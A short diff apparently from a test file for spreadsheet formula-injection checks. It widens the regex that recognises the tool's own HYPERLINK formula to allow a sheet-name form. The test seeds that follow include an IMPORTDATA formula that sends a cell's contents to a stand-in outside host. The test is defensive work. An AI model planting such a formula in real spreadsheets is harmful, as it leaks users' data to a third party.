@@ -28,8 +28,8 @@ import {
 
 const base = filledForm();
 const ours = [tabs.summary, tabs.findings, tabs.log, tabs.tracking];
-/** The one formula that we write: a link made of a tab's id and a cell's address. */
-const ownLink = /^=HYPERLINK\("#gid=\d+&range=[A-Z]+\d+";"[^"]*(?:""[^"]*)*"\)$/;
+/** The one formula that we write: a link made of a tab's id, in a file its name, and a cell's address. */
+const ownLink = /^=HYPERLINK\("#(?:gid=\d+&range=|'(?:[^'"]|'')+'!)[A-Z]+\d+";"[^"]*(?:""[^"]*)*"\)$/;
 
 const seeds = [
   '=IMPORTDATA("https://example.invalid/"&A1)',
